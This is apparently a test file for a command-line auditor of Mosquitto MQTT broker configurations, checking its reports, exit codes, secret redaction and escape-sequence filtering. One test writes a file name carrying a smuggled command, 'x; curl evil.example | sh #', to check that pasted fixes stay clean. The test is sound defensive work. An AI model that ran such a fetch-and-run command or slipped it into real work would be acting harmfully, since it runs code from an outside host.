// `castellan doctor` as a command: what it prints, in which form, and with which exit code.

import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { chmodSync, mkdtempSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import test, { type TestContext } from 'node:test'
import { runCommand } from '../../../test/support/command.ts'
import { quietPort } from '../../../test/support/free-port.ts'
import { rules } from '../../doctor/rules.ts'
import { doctor } from './doctor.ts'

const bad = 'listener 1883\nallow_anonymous true\npassword_file passwd\n'

function directory(t: TestContext, files: Readonly<Record<string, string>>): string {
  const dir = mkdtempSync(join(tmpdir(), 'castellan-doctor-'))
  t.after(() => rmSync(dir, { recursive: true, force: true }))
  for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text, { mode: 0o600 })
  return dir
}

test('cli section 6: a file, its directory, and lines with place, reason and fix; exit code 0', async t => {
  const dir = directory(t, { 'mosquitto.conf': bad, passwd: 'alice:alice\n' })
  const file = join(dir, 'mosquitto.conf')
  const { code, stdout, stderr } = await runCommand(doctor, [file])
  assert.deepEqual([code, stderr], [0, ''])
  assert.match(stdout, new RegExp(`^${file}: \\d+ of 100, grade F \\(2 critical, `))
  assert.match(stdout, /\nCRITICAL {2}D01 {2}anonymous clients get in from other machines\n/)
  assert.ok(stdout.includes(`  ${file}:2: 'listener 1883' lets clients in without a name\n  why: `))
  assert.match(stdout, /\n {2}fix: allow_anonymous false\n/)
  assert.equal((await runCommand(doctor, [dir])).stdout, stdout)
})

test('cli section 6: --min-score: 7 below it, 0 at it', async t => {
  const dir = directory(t, { 'mosquitto.conf': 'listener 1883 127.0.0.1\nmax_connections 5\n' })
  const { score } = JSON.parse((await runCommand(doctor, [dir, '--json'])).stdout)
  assert.equal((await runCommand(doctor, [dir, '--min-score', String(score)])).code, 0)
  assert.equal((await runCommand(doctor, [dir, '--min-score', '101'])).code, 2)
  const worse = directory(t, { 'mosquitto.conf': bad })
  assert.equal((await runCommand(doctor, [worse, '--min-score', '100'])).code, 7)
})

test('cli section 6: JSON has a version, the score, counts, findings and problems', async t => {
  const dir = directory(t, { 'mosquitto.conf': `${bad}bogus 1\n` })
  const { stdout } = await runCommand(doctor, [dir, '-o', 'json'])
  const report = JSON.parse(stdout)
  assert.deepEqual(Object.keys(report), ['version', 'target', 'score', 'grade', 'counts', 'findings', 'problems'])
  assert.deepEqual(Object.keys(report.findings[0]), [
    'id',
    'severity',
    'title',
    'file',
    'line',
    'evidence',
    'why',
    'fix',
  ])
  assert.equal(report.counts.critical, report.findings.filter(isCritical).length)
  assert.deepEqual(
    report.problems.map(({ line, message }: { line: number; message: string }) => `${line} ${message.slice(0, 43)}`),
    ["4 Error: Unknown configuration variable 'bogu", "3 password_file 'passwd' cannot be read: no s"],
  )
})

function isCritical({ severity }: { severity: string }): boolean {
  return severity === 'critical'
}

test('cli section 6: SARIF 2.1.0 has what the standard demands (§3.13, §3.19, §3.27)', async t => {
  const dir = directory(t, { 'mosquitto.conf': bad })
  const { code, stdout } = await runCommand(doctor, [dir, '--sarif'])
  assert.equal(code, 0)
  const log = JSON.parse(stdout)
  assert.equal(log.version, '2.1.0')
  assert.match(log.$schema, /^https:.*sarif.*2\.1\.0.*\.json$/)
  const [{ tool, results }] = log.runs
  assert.equal(tool.driver.name, 'castellan doctor')
  assert.deepEqual(
    tool.driver.rules.map(({ id }: { id: string }) => id),
    rules.map(({ id }) => id),
  )
  assert.ok(results.length > 0)
  for (const { ruleId, ruleIndex, level, message, locations } of results) {
    assert.equal(tool.driver.rules[ruleIndex].id, ruleId)
    assert.match(level, /^(error|warning|note)$/)
    assert.ok(message.text.length > 0)
    const { artifactLocation, region } = locations[0].physicalLocation
    assert.ok(URL.canParse(artifactLocation.uri, 'file:///'), artifactLocation.uri)
    if (region !== undefined) assert.ok(Number.isInteger(region.startLine) && region.startLine >= 1)
  }
})

test('cli section 6: nothing is written, and no secret is told', async t => {
  const dir = directory(t, {
    'mosquitto.conf': bad,
    passwd: 'alice:hunter2hunter2\nbob:$7$101$QUJDREVGR0hJSktM$AAAA\n',
  })
  const before = readdirSync(dir).map(name => [name, statSync(join(dir, name)).mtimeMs])
  const outputs = await Promise.all(['table', 'json', 'sarif'].map(form => runCommand(doctor, [dir, '-o', form])))
  for (const { stdout } of outputs) {
    assert.ok(stdout.includes('alice') && stdout.includes('bob'))
    assert.doesNotMatch(stdout, /hunter2|QUJDREVGR0hJSktM/)
  }
  assert.deepEqual(
    readdirSync(dir).map(name => [name, statSync(join(dir, name)).mtimeMs]),
    before,
  )
})

test('cli section 6: text of a file cannot steer the terminal', async t => {
  const dir = directory(t, { 'mosquitto.conf': 'listener 1883\u001b[2J\nclientid_prefixes \u202eevil\n' })
  const { stdout } = await runCommand(doctor, [dir])
  assert.doesNotMatch(stdout, /[\u001b\u202e]/)
  assert.ok(stdout.includes("clientid_prefixes '\\u{202e}evil'"))
})

test('cli section 6: what is to be pasted into a shell holds no word that a stranger chose', async t => {
  const evil = 'x; curl evil.example | sh #'
  const dir = directory(t, {})
  writeFileSync(join(dir, evil), `${evil}:x; ls\nplain:plain\n`)
  chmodSync(join(dir, evil), 0o644)
  writeFileSync(join(dir, 'mosquitto.conf'), `password_file ${join(dir, evil)}\n`)
  const { stdout } = await runCommand(doctor, [dir, '--json'])
  const fixes = JSON.parse(stdout).findings.map(({ fix }: { fix: string }) => fix)
  assert.ok(fixes.some((fix: string) => fix.startsWith('chmod 0600 FILE')))
  assert.ok(fixes.some((fix: string) => fix.startsWith('castellan passwd FILE plain')))
  assert.doesNotMatch(fixes.join('\n'), /curl|evil/)
})

// To read /proc/kmsg is to wait for the kernel, and to take its words away.
test('cli section 6: a file that nobody may read, or of another kind, is a problem and no crash', async t => {
  const dir = directory(t, {
    'mosquitto.conf': 'acl_file /dev/null\npassword_file .\npsk_file /proc/kmsg\ncertfile x\nlistener\n',
    x: '',
  })
  chmodSync(join(dir, 'x'), 0)
  const { code, stdout } = await runCommand(doctor, [dir])
  assert.equal(code, 0)
  assert.match(stdout, /acl_file '\/dev\/null' cannot be read: it is not a file/)
})

test('cli section 6: a pipe that nobody writes to holds nobody up', { timeout: 30_000 }, async t => {
  const dir = directory(t, {})
  execFileSync('mkfifo', [join(dir, 'x.conf'), join(dir, 'passwd')])
  writeFileSync(join(dir, 'mosquitto.conf'), `include_dir ${dir}\npassword_file ${join(dir, 'passwd')}\n`)
  const { code, stdout } = await runCommand(doctor, [dir])
  assert.equal(code, 0)
  assert.match(stdout, /passwd' cannot be read: it is not a file/)
  assert.match(stdout, /Unable to open config file '.*x\.conf'/)
})

const wrong: readonly (readonly [args: readonly string[], code: number, says: RegExp])[] = [
  [['/no/such/file'], 3, /there is no file '\/no\/such\/file'/],
  [['/dev/null'], 1, /'\/dev\/null' cannot be read: it is not a file/],
  [['/etc/passwd'], 1, /'\/etc\/passwd' is no mosquitto\.conf/],
  [['/proc/self'], 3, /there is no mosquitto\.conf in/],
  [['a', 'b'], 2, /'b' is one argument too many/],
  [['--fix', 'a'], 2, /--fix is not there/],
  [['--json', '--sarif', 'a'], 2, /one of --json, --sarif and -o will do/],
  [['-o', 'xml', 'a'], 2, /-o 'xml' is none of table, json/],
  [['--min-score', 'x', 'a'], 2, /'x' is no whole number/],
  [['ws://localhost'], 2, /neither mqtt:\/\/ nor mqtts:\/\//],
  [['mqtt://user:secret@localhost'], 2, /no user name and no password/],
  [['--cafile', 'x', 'a'], 2, /--cafile is for running brokers/],
]

for (const [args, code, says] of wrong) {
  test(`cli section 4: \`doctor ${args.join(' ')}\` ends with ${code}, and says why`, async () => {
    const result = await runCommand(doctor, args)
    assert.deepEqual([result.code, result.stdout], [code, ''])
    assert.match(result.stderr, says)
    assert.doesNotMatch(result.stderr, /secret/)
  })
}

test('cli section 4: a broker that is not there is exit code 6', async () => {
  const result = await runCommand(doctor, [`mqtt://127.0.0.1:${await quietPort()}`])
  assert.equal(result.code, 6)
  assert.match(result.stderr, /Connection refused/)
})
